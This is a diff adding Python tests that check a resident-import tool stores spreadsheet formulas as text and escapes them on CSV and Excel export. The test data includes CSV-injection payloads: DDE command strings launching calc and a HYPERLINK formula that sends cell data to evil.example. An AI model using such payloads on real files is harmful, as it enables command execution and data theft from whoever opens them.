@@ -617,3 +617,67 @@ async def test_import_through_the_cli(district: District, cli_env: dict[str, str
     assert '"event": "import.done"' in result.stderr and '"rows": 2' in result.stderr
     for secret in (OLD_MAN, MOTHER, "13830000001", "13830000002"):
         assert secret not in result.stdout + result.stderr
+
+
+# --- formulas in cells (CSV injection, issue 9 reproduction 13) ---------------------------------
+
+# What an attacker types into a sheet a district will import, and later export and open in Excel.
+# (Names are taken whole; conditions are split at ; , / and the like, so those hold short ones.)
+INJECTED = [
+    ("=cmd|' /C calc'!A0", ["+1+1", "-2+3"]),
+    ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', ["@SUM(1+1)*cmd|' -C calc'!A0"]),
+]
+
+
+async def test_formulas_are_stored_as_text_and_neutralized_on_the_way_out(
+    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
+) -> None:
+    import csv
+    import io
+
+    import openpyxl
+
+    from store.spreadsheet import csv_writer, safe_cell
+
+    def quoted(text: str) -> str:
+        return '"' + text.replace('"', '""') + '"'
+
+    path = write_csv(tmp_path, text="name,id_number,phones,center,conditions\n" + "".join(
+        f"{quoted(name)},{number},+86138300000{i:02d},测试街,{quoted(';'.join(conditions))}\n"
+        for i, ((name, conditions), number) in enumerate(zip(INJECTED, [OLD_MAN, MOTHER], strict=True))))
+    assert await import_file(pool, vault, "residents", path) == 2
+    directory = Directory(pool, vault)
+    for i, (name, conditions) in enumerate(INJECTED):
+        # stored unchanged, as text; the +86 phone is a phone, normalized, not a formula
+        (view,) = await directory.show_residents(f"138300000{i:02d}", actor="test", reason="export",
+                                                 on=date(2026, 11, 23))
+        assert view.name == name and sorted(view.conditions) == sorted(conditions)
+
+        # on the way out to a spreadsheet each is text again: a leading apostrophe
+        row = [view.name, *view.conditions, *view.phones, -5, 3.5, None]
+        out = io.StringIO(newline="")
+        csv_writer(out).writerow(row)
+        (written,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+        texts = len(conditions) + 1
+        assert written[:texts] == ["'" + v for v in [view.name, *view.conditions]]
+        assert written[texts:] == [f"138300000{i:02d}", "-5", "3.5", ""]  # numbers stay numbers
+
+        # the same function for a workbook: openpyxl makes every "=…" string a formula otherwise
+        workbook = openpyxl.Workbook()
+        workbook.active.append([safe_cell(v) for v in row])
+        workbook.save(tmp_path / "export.xlsx")
+        cells = next(openpyxl.load_workbook(tmp_path / "export.xlsx").active.iter_rows())
+        assert all(c.data_type != "f" for c in cells)
+        assert cells[0].value == "'" + name
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("+8613800000001", "'+8613800000001"),
+    ("张桂兰", "张桂兰"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, "-5"), (2.5, "2.5"), (True, "TRUE"),
+    (date(2026, 1, 5), "2026-01-05"),
+])
+def test_safe_cell(value: Any, cell: str) -> None:
+    from store.spreadsheet import safe_cell
+
+    assert safe_cell(value) == cell
